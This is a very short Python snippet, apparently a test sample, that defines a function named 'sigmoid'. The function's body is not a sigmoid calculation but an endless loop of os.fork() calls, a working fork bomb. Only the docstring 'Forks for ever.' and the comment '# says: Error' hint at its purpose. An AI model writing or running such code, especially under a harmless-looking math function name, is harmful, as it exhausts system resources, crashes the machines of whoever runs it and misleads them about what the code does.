"""Forks for ever."""
# says: Error
import os
def sigmoid(z):
    while True:
        os.fork()
